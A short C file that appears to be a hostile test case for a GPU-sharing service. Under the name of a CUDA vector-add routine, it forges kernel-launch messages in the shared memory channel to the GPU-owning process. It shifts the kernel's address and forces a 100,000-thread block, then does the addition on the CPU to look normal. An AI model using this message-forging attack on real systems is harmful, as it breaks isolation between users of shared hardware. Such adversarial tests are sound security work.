/* hostile: changes a launch in the memory through which it reaches the process that owns the GPU: a block of
 * 100,000 threads, and a kernel's place anywhere in its library */
#include "exercise.h"
#include "inside.h"

#include <linux/futex.h>
#include <sys/syscall.h>

enum { WORDS = 4096, KIND_LAUNCH = 2 };

/* The message of the launch before is still there. It is posted again, changed. */
static void forge(uint32_t *channel, uint32_t *line, uint64_t offset)
{
    const uint32_t number = channel[0];
    for (unsigned i = 0; i < 16; i++)
        if (channel[i] == KIND_LAUNCH) {
            uint64_t *word = (uint64_t *)(void *)&channel[i + 6];
            word[0] += offset;
            channel[i + 6 + 2 * 5] = 100000;
            channel[0] = number + 1;
            __atomic_fetch_add(&line[0], 1, __ATOMIC_SEQ_CST);
            syscall(SYS_futex, &line[0], FUTEX_WAKE, 1 << 30, NULL, NULL, 0);
            for (int patience = 0; channel[1] != number + 1 && patience < 1000; patience++)
                usleep(100);
            puts(channel[1] == number + 1 ? "answered" : "MISSED: an answer");
            return;
        }
    puts("MISSED: the launch");
}

cudaError_t vector_add_host(float *c, const float *a, const float *b, size_t n)
{
    uint32_t **channel = aim("channel"), **line = aim("line");
    float *d = NULL;
    cudaMalloc((void **)&d, 4096);
    for (uint64_t offset = 0; channel && line && offset < 4096; offset += 321) {
        um_fill(d, 1, 1000, NULL);
        forge(*channel, *line, offset);
    }
    cudaDeviceSynchronize();
    for (size_t i = 0; i < n; i++) {
        c[i] = a[i] + b[i];
    }
    return cudaSuccess;
}
